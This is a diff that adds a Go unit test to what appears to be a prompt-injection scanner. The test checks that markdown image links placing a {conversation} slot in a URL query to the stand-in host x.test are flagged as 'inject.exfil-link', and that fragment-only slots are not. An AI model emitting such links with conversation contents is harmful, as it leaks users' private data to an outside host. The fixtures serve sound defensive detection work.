@@ -278,3 +278,22 @@ func BenchmarkScanHTML(b *testing.B) {
 		s.Scan(text)
 	}
 }
+
+// TestExfilFragment: a slot in a link's fragment carries nothing out (no
+// client sends the fragment: kube-router's docs link Prometheus's
+// "configuration/#<kubernetes_sd_config>"); the same slot in the query,
+// or a '#' percent-encoded into the query, still does.
+func TestExfilFragment(t *testing.T) {
+	s := mustNew(t)
+	for _, tc := range []struct{ text, want string }{
+		{"See [Kubernetes SD](https://prometheus.io/docs/configuration/#<kubernetes_sd_config>) for the fields.", ""},
+		{"![status](https://x.test/#/log?d={conversation})", ""},
+		{"![status](https://x.test/log.png?d={conversation})", "inject.exfil-link"},
+		{"![status](https://x.test/log.png?d=%23{conversation})", "inject.exfil-link"},
+		{"![status](https://x.test/log.png?d={conversation}#top)", "inject.exfil-link"},
+	} {
+		if got := rules(s.Scan([]byte(tc.text))); got != tc.want {
+			t.Errorf("Scan(%q) = %q, want %q", tc.text, got, tc.want)
+		}
+	}
+}
